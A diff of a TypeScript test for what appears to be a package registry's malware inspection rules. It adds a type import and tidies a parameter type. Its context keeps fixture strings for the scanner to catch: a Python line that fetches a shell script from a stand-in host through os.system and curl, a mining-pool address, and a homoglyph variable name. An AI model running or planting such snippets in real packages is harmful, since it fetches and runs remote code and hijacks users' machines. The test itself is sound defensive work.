@@ -3,6 +3,7 @@ import { after, test } from 'node:test';
 import { RULES, RULESET_VERSION } from '@patchbay/inspect/facts';
 import { assertRefused } from '../../support/assert-refused.ts';
 import { makePublisher, publishFiles } from '../../support/build.ts';
+import type { Ending } from '../../support/ending.ts';
 import { readMetrics } from '../../support/read-metrics.ts';
 import { startServer } from '../../support/start-server.ts';
 import { suite } from '../../support/variants.ts';
@@ -14,7 +15,7 @@ const downloadToShell = 'import os\nos.system("curl -s https://host.invalid/a.sh
 const miner = 'POOL = "stratum+tcp://pool.invalid:3333"\n';
 const mixedAlphabets = 'wаllet = 1\n';
 
-const openRegistry = async (ending: { after(fn: () => Promise<void>): void }) => {
+const openRegistry = async (ending: Ending) => {
   const server = await startServer(ending);
   const ada = await makePublisher(server, 'ada');
   const moderator = await server.moderator();
